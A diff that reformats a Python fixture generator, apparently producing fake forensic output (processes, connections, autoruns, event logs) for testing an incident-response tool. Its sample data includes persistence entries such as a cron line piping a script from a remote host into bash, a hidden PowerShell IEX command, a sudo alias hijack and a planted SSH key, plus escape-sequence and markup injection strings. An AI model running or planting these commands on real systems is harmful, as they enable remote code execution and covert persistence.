@@ -23,8 +23,13 @@ def _host(m: MachineRec) -> str:
 
 
 def _transcript(m: MachineRec, rng: random.Random, when: str, body: str) -> str:
-    guid = "%08x-%04x-%04x-%04x-%012x" % (rng.getrandbits(32), rng.getrandbits(16), rng.getrandbits(16),
-                                          rng.getrandbits(16), rng.getrandbits(48))
+    guid = "%08x-%04x-%04x-%04x-%012x" % (
+        rng.getrandbits(32),
+        rng.getrandbits(16),
+        rng.getrandbits(16),
+        rng.getrandbits(16),
+        rng.getrandbits(48),
+    )
     path = f"{TRANSCRIPT_DIR}transcript_{guid}.txt"
     build = m.wire.get("osBuild") or 19045
     banner = (
@@ -46,14 +51,53 @@ def _transcript(m: MachineRec, rng: random.Random, when: str, body: str) -> str:
     return banner + body
 
 
-_WIN_PROCS = ["System", "smss.exe", "csrss.exe", "wininit.exe", "services.exe", "lsass.exe", "svchost.exe", "svchost.exe",
-              "svchost.exe", "MsMpEng.exe", "MsSense.exe", "SenseIR.exe", "explorer.exe", "RuntimeBroker.exe",
-              "OneDrive.exe", "Teams.exe", "msedge.exe", "msedge.exe", "outlook.exe", "powershell.exe", "conhost.exe",
-              "spoolsv.exe", "SearchIndexer.exe", "dllhost.exe", "taskhostw.exe", "sihost.exe", "ctfmon.exe",
-              "winlogon.exe", "dwm.exe", "WmiPrvSE.exe"]
-_NIX_PROCS = ["/sbin/init", "[kthreadd]", "/lib/systemd/systemd-journald", "/usr/sbin/sshd -D", "/usr/sbin/cron -f",
-              "/opt/microsoft/mdatp/sbin/wdavdaemon", "/usr/bin/containerd", "/usr/sbin/rsyslogd -n", "nginx: worker process",
-              "/usr/bin/python3 /opt/app/server.py", "-bash", "/usr/lib/postgresql/15/bin/postgres", "sleep 3600"]
+_WIN_PROCS = [
+    "System",
+    "smss.exe",
+    "csrss.exe",
+    "wininit.exe",
+    "services.exe",
+    "lsass.exe",
+    "svchost.exe",
+    "svchost.exe",
+    "svchost.exe",
+    "MsMpEng.exe",
+    "MsSense.exe",
+    "SenseIR.exe",
+    "explorer.exe",
+    "RuntimeBroker.exe",
+    "OneDrive.exe",
+    "Teams.exe",
+    "msedge.exe",
+    "msedge.exe",
+    "outlook.exe",
+    "powershell.exe",
+    "conhost.exe",
+    "spoolsv.exe",
+    "SearchIndexer.exe",
+    "dllhost.exe",
+    "taskhostw.exe",
+    "sihost.exe",
+    "ctfmon.exe",
+    "winlogon.exe",
+    "dwm.exe",
+    "WmiPrvSE.exe",
+]
+_NIX_PROCS = [
+    "/sbin/init",
+    "[kthreadd]",
+    "/lib/systemd/systemd-journald",
+    "/usr/sbin/sshd -D",
+    "/usr/sbin/cron -f",
+    "/opt/microsoft/mdatp/sbin/wdavdaemon",
+    "/usr/bin/containerd",
+    "/usr/sbin/rsyslogd -n",
+    "nginx: worker process",
+    "/usr/bin/python3 /opt/app/server.py",
+    "-bash",
+    "/usr/lib/postgresql/15/bin/postgres",
+    "sleep 3600",
+]
 
 # strings an attacker controls end up in output: keep the app honest
 _NASTY = [
@@ -75,7 +119,7 @@ def _proc_table(m: MachineRec, rng: random.Random, pattern: str | None) -> str:
             if pattern and not re.fullmatch(pattern.replace("*", ".*"), n, re.I):
                 continue
             pid += rng.randint(4, 400)
-            cmd = f"C:\\Windows\\System32\\{n}" if i % 3 else f"\"C:\\Program Files\\{n[:-4]}\\{n}\" --type=renderer"
+            cmd = f"C:\\Windows\\System32\\{n}" if i % 3 else f'"C:\\Program Files\\{n[:-4]}\\{n}" --type=renderer'
             lines.append(f"{pid:>9} {rng.randint(4, pid):>15} {n:<24} {cmd}")
         if not pattern:
             for k, s in enumerate(_NASTY):
@@ -86,10 +130,14 @@ def _proc_table(m: MachineRec, rng: random.Random, pattern: str | None) -> str:
         for n in _NIX_PROCS * 6:
             if pattern and pattern not in n:
                 continue
-            lines.append(f"{'root' if pid < 900 else 'www-data':<10} {pid:>6} {max(1, pid // 3):>7} Mon Jun  2 07:{pid % 60:02d}:11 2024  {n}")
+            lines.append(
+                f"{'root' if pid < 900 else 'www-data':<10} {pid:>6} {max(1, pid // 3):>7} Mon Jun  2 07:{pid % 60:02d}:11 2024  {n}"
+            )
             pid += rng.randint(1, 300)
         if not pattern:
-            lines.append(f"nobody     {pid + 7:>6}       1 Mon Jun  2 07:59:59 2024  /tmp/.x/{ESC}[31mkworker{ESC}[0m [bold]x[/bold] \u202eexe.dab")
+            lines.append(
+                f"nobody     {pid + 7:>6}       1 Mon Jun  2 07:59:59 2024  /tmp/.x/{ESC}[31mkworker{ESC}[0m [bold]x[/bold] \u202eexe.dab"
+            )
     return "\n".join(lines) + "\n"
 
 
@@ -100,7 +148,9 @@ def _net_table(m: MachineRec, rng: random.Random) -> str:
         rp = rng.choice([443, 443, 443, 80, 445, 3389, 22, 8080, 5985])
         remote = f"{rng.randint(11, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
         state = rng.choice(["Established", "Established", "TimeWait", "CloseWait", "Listen"])
-        lines.append(f"TCP   {ip}:{rng.randint(49152, 65535):<14} {remote}:{rp:<12} {state:<12} {rng.randint(300, 20000)}")
+        lines.append(
+            f"TCP   {ip}:{rng.randint(49152, 65535):<14} {remote}:{rp:<12} {state:<12} {rng.randint(300, 20000)}"
+        )
     lines.append(f"TCP   {ip}:4444           185.220.101.7:443           Established  6666   [red]beacon[/red]")
     return "\n".join(lines) + "\n"
 
@@ -108,20 +158,40 @@ def _net_table(m: MachineRec, rng: random.Random) -> str:
 def _autoruns(m: MachineRec, rng: random.Random) -> tuple[str, str]:
     out = ["Location                                                   Entry                 Image Path"]
     if m.family == "windows":
-        entries = [("HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "SecurityHealth", "C:\\Windows\\System32\\SecurityHealthSystray.exe"),
-                   ("HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "OneDrive", "C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe /background"),
-                   ("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "[bold]Updater[/bold]", _NASTY[0]),
-                   ("Task Scheduler", "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan", "C:\\Windows\\System32\\usoclient.exe StartScan"),
-                   ("Task Scheduler", f"\\{ESC}]0;totally legit{chr(7)}Sync", _NASTY[2]),
-                   ("Services", "WinDefend", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24050.7-0\\MsMpEng.exe"),
-                   ("Services", "svc[/]helper", "C:\\ProgramData\\svc\\helper.exe [link=file:///etc/passwd]x[/link]"),
-                   ("WMI", "CommandLineEventConsumer: SCM Event Log Consumer", "powershell.exe -nop -w hidden -c IEX(...)")]
+        entries = [
+            (
+                "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
+                "SecurityHealth",
+                "C:\\Windows\\System32\\SecurityHealthSystray.exe",
+            ),
+            (
+                "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
+                "OneDrive",
+                "C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe /background",
+            ),
+            ("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "[bold]Updater[/bold]", _NASTY[0]),
+            (
+                "Task Scheduler",
+                "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan",
+                "C:\\Windows\\System32\\usoclient.exe StartScan",
+            ),
+            ("Task Scheduler", f"\\{ESC}]0;totally legit{chr(7)}Sync", _NASTY[2]),
+            (
+                "Services",
+                "WinDefend",
+                "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24050.7-0\\MsMpEng.exe",
+            ),
+            ("Services", "svc[/]helper", "C:\\ProgramData\\svc\\helper.exe [link=file:///etc/passwd]x[/link]"),
+            ("WMI", "CommandLineEventConsumer: SCM Event Log Consumer", "powershell.exe -nop -w hidden -c IEX(...)"),
+        ]
     else:
-        entries = [("/etc/crontab", "17 * * * *", "root cd / && run-parts --report /etc/cron.hourly"),
-                   ("/etc/cron.d/.hidden", "*/5 * * * *", f"curl -s http://198.51.100.9/x.sh | bash {ESC}[8m hidden {ESC}[0m"),
-                   ("/etc/systemd/system", "dbus-helper.service", "/usr/local/bin/[bold]dbus[/bold]-helper"),
-                   ("/root/.ssh/authorized_keys", "ssh-ed25519", "AAAAC3Nza... attacker@kali\u202e"),
-                   ("~/.bashrc", "alias sudo", "alias sudo='sudo /tmp/.k; sudo'")]
+        entries = [
+            ("/etc/crontab", "17 * * * *", "root cd / && run-parts --report /etc/cron.hourly"),
+            ("/etc/cron.d/.hidden", "*/5 * * * *", f"curl -s http://198.51.100.9/x.sh | bash {ESC}[8m hidden {ESC}[0m"),
+            ("/etc/systemd/system", "dbus-helper.service", "/usr/local/bin/[bold]dbus[/bold]-helper"),
+            ("/root/.ssh/authorized_keys", "ssh-ed25519", "AAAAC3Nza... attacker@kali\u202e"),
+            ("~/.bashrc", "alias sudo", "alias sudo='sudo /tmp/.k; sudo'"),
+        ]
         if m.family == "macos":
             entries.append(("/Library/LaunchDaemons", "com.apple.updater.plist", "/Users/Shared/.updater"))
     for loc, name, img in entries:
@@ -131,9 +201,14 @@ def _autoruns(m: MachineRec, rng: random.Random) -> tuple[str, str]:
 
 
 def _events(m: MachineRec, rng: random.Random, hours: int) -> str:
-    ids = [(4624, "An account was successfully logged on."), (4625, "An account failed to log on."),
-           (4688, "A new process has been created."), (7045, "A service was installed in the system."),
-           (4104, "Creating Scriptblock text (1 of 1):"), (4672, "Special privileges assigned to new logon.")]
+    ids = [
+        (4624, "An account was successfully logged on."),
+        (4625, "An account failed to log on."),
+        (4688, "A new process has been created."),
+        (7045, "A service was installed in the system."),
+        (4104, "Creating Scriptblock text (1 of 1):"),
+        (4672, "Special privileges assigned to new logon."),
+    ]
     parts = []
     n = 9000 + rng.randint(0, 3000)
     for i in range(n):
@@ -142,5 +217,6 @@ def _events(m: MachineRec, rng: random.Random, hours: int) -> str:
             f"TimeCreated  : 2024-06-02 {(i // 600) % 24:02d}:{(i // 10) % 60:02d}:{i % 60:02d}\n"
             f"ProviderName : Microsoft-Windows-Security-Auditing\nId           : {eid}\n"
             f"Message      : {msg}\n               Subject: CONTOSO\\svc_{i % 17:02d}  Logon ID: 0x{rng.getrandbits(24):X}\n"
-            f"               Process: C:\\Windows\\System32\\svchost.exe  Source: 10.{i % 250}.{(i * 3) % 250}.{i % 200 + 1}\n\n")
+            f"               Process: C:\\Windows\\System32\\svchost.exe  Source: 10.{i % 250}.{(i * 3) % 250}.{i % 200 + 1}\n\n"
+        )
     return "".join(parts)
